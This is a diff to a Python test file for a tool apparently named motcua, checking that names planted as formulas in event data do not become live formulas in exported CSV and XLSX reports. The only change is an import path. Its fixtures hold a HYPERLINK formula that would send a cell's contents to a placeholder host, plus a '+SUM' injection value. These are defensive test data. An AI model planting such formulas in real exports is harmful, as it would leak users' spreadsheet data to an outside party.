@@ -1,5 +1,5 @@
 """No text from data becomes a live formula in the files we write
-(reports/cells.py): names planted as formulas in the events go through
+(schemas/cells.py): names planted as formulas in the events go through
 `report --format csv|xlsx` and the monthly workbook, and the written files
 are opened with the csv module and openpyxl (and the xlsx XML itself)."""
 
@@ -17,7 +17,7 @@ from openpyxl import Workbook, load_workbook
 from typer.testing import CliRunner
 
 from motcua import app
-from reports.cells import append_row, csv_cell, set_cell
+from schemas.cells import append_row, csv_cell, set_cell
 
 AGENCY = '=HYPERLINK("http://x.invalid/?leak="&A1,"Bấm vào đây")'
 FIELD = "+SUM(1+1)"
